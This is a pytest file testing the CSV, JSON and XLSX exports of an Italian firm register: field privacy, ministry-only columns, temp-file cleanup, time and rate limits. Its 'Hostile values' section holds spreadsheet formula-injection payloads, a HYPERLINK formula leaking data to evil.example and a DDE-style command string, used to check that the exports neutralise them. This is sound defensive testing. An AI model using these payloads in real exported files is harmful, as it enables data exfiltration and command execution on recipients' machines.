"""Exports stream the register; public exports never carry private fields."""

import csv
import io
import json
import tempfile
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from registry.extensions import db
from registry.firms.models import Firm
from registry.public import exports, register
from tests import factories, rows

PRIVATE = ("traffico", "numerazioni", "pec", "paesi_extra_ue", "aree", "dipendenti", "fte")


def test_public_csv_has_only_public_fields(app, client, certified_firm):
    certified_firm("Qualità Contact S.r.l.")
    text = client.get("/register/export.csv").get_data(as_text=True).lstrip("\ufeff")
    reader = csv.DictReader(io.StringIO(text), delimiter=";")
    rows = list(reader)
    assert rows[0]["ragione_sociale"] == "Qualità Contact S.r.l."
    assert rows[0]["esito_verifica_oggi"] == "valid"
    assert not any(key.startswith(PRIVATE) for key in reader.fieldnames)
    with app.app_context():

        firm = db.session.scalar(db.select(Firm))
        assert firm.pec not in text and firm.phone_numbers[0] not in text


def test_json_and_xlsx_exports_with_filters(client, certified_firm):
    certified_firm("Alfa S.r.l.", region="Lazio")
    certified_firm("Beta S.r.l.", region="Puglia")
    data = json.loads(client.get("/register/export.json?region=Lazio").get_data(as_text=True))
    assert [row["ragione_sociale"] for row in data] == ["Alfa S.r.l."]
    workbook = load_workbook(io.BytesIO(client.get("/register/export.xlsx").data))
    values = list(workbook.active.values)
    assert values[0][0] == "ragione_sociale" and len(values) == 3
    assert not any(str(cell).startswith(PRIVATE) for cell in values[0])


def test_ministry_gets_the_wider_columns(app, client, login, certified_firm):
    certified_firm("Gamma S.r.l.")
    with app.app_context():
        ministry = factories.make_user("ministry").id
    login(ministry)
    text = client.get("/register/export.csv").get_data(as_text=True)
    header = text.lstrip("\ufeff").splitlines()[0]
    assert "traffico_extra_ue_pct" in header and "numerazioni" in header


def test_ministry_register_shows_private_columns_and_filters(app, client, login,
                                                            certified_firm):
    certified_firm("Delta S.r.l.", traffic_italy_pct=50, traffic_eu_pct=10,
                   traffic_extra_eu_pct=40, extra_eu_countries=["AL", "TN"])
    certified_firm("Epsilon S.r.l.")
    with app.app_context():
        ministry = factories.make_user("ministry").id
    login(ministry)
    page = client.get("/ministry?min_extra_eu=30").get_data(as_text=True)
    assert "Delta S.r.l." in page and "Epsilon S.r.l." not in page
    assert "50 / 10 / 40" in page and "AL, TN" in page


# Hostile values (issue 13, points 2 and 3) -----------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Apri")'
RISKY_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _csv_rows(response) -> list[list[str]]:
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_csv_cells_never_start_a_formula(app, client, login, certified_firm):
    certified_firm(FORMULA)
    certified_firm("@SUM(1+1)*cmd|' /C calc'!A0")
    with app.app_context():
        ministry = factories.make_user("ministry").id
    login(ministry)  # the wide columns: PEC, and phone numbers starting with "+"
    response = client.get("/register/export.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # one charset
    table = _csv_rows(response)
    cells = [cell for row in table[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(RISKY_STARTS)]
    names = {row[0] for row in table[1:]}
    assert names == {"'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0"}
    phones = table[1][table[0].index("numerazioni")]
    assert phones.startswith("'+39")  # documented: a reader drops one leading apostrophe


def test_xlsx_text_cells_are_strings_never_formulas(client, certified_firm):
    certified_firm(FORMULA)
    data = client.get("/register/export.xlsx").data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert "HYPERLINK" in sheet and 't="inlineStr"' in sheet
    cell = load_workbook(io.BytesIO(data)).active["A2"]
    assert cell.value == FORMULA and cell.data_type == "s"  # exact, and text
    assert cell.quotePrefix  # Excel keeps it text even when the cell is edited


@pytest.fixture
def temp_folder(tmp_path, monkeypatch):
    """The process's temporary directory, pointed at an empty test folder."""
    folder = tmp_path / "tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def test_aborted_xlsx_export_leaves_no_temp_file(client, certified_firm, temp_folder,
                                                 monkeypatch):
    for index in range(3):
        certified_firm(f"Impresa {index} S.r.l.")
    # Spill the workbook to disk, send it in small chunks.
    monkeypatch.setattr(exports, "SPOOL_IN_MEMORY", 10, raising=False)
    monkeypatch.setattr(exports, "CHUNK", 100, raising=False)
    response = client.get("/register/export.xlsx", buffered=False)
    assert response.status_code == 200
    assert next(iter(response.response))[:2] == b"PK"
    response.close()  # the client goes away after the first chunk
    assert list(temp_folder.iterdir()) == []


def test_xlsx_export_with_control_characters_in_data(client, certified_firm, temp_folder):
    # A name stored before the input guards existed: openpyxl refuses such characters, which
    # broke the export and left openpyxl's row file in the temporary directory.
    certified_firm("Vecchia\x01Impresa S.r.l.")
    response = client.get("/register/export.xlsx")
    assert response.status_code == 200
    assert load_workbook(io.BytesIO(response.data)).active["A2"].value == \
        "VecchiaImpresa S.r.l."
    assert list(temp_folder.iterdir()) == []


def test_exports_stop_at_their_time_limit(make_app, certified_firm, temp_folder):
    app = make_app(EXPORT_TIME_LIMIT=0)
    with app.app_context():
        rows.certified_firm("Alfa S.r.l.")
    client = app.test_client()
    response = client.get("/register/export.xlsx")
    assert response.status_code == 503
    assert "tempo massimo" in response.get_data(as_text=True)
    assert list(temp_folder.iterdir()) == []
    # CSV has started streaming: the download is cut, so it cannot pass for a whole file.
    streamed = client.get("/register/export.csv", buffered=False)
    body = iter(streamed.response)
    assert next(body).startswith("\ufeffragione_sociale".encode())
    with pytest.raises(exports.ExportTooLong):
        list(body)
    streamed.close()


def test_exports_are_rate_limited_per_client(make_app):
    client = make_app(EXPORT_RATE_LIMIT="2 per minute").test_client()
    assert [client.get(f"/register/export.{kind}").status_code
            for kind in ("csv", "json", "xlsx")] == [200, 200, 429]
    assert client.get("/register").status_code == 200  # the rest of the site still answers


def test_exports_refuse_unknown_filters(client):
    response = client.get("/register/export.csv?region=Atlantide")
    assert response.status_code == 400
    assert "Atlantide" in response.get_data(as_text=True)


@pytest.mark.postgres
def test_a_statement_stopped_by_the_server_is_the_time_limit_not_a_500(make_app, monkeypatch):
    """PostgreSQL's statement_timeout (set from the export's deadline) cancels the statement:
    the answer is the time-limit page, as when the deadline is seen between rows."""
    app = make_app()

    def slow_rows(_query, _wide):
        db.session.execute(text("SET LOCAL statement_timeout = 1"))
        db.session.execute(text("SELECT pg_sleep(1)"))
        yield from ()

    monkeypatch.setattr(register, "iterate", slow_rows)
    response = app.test_client().get("/register/export.xlsx")
    assert response.status_code == 503
    assert "tempo massimo" in response.get_data(as_text=True)
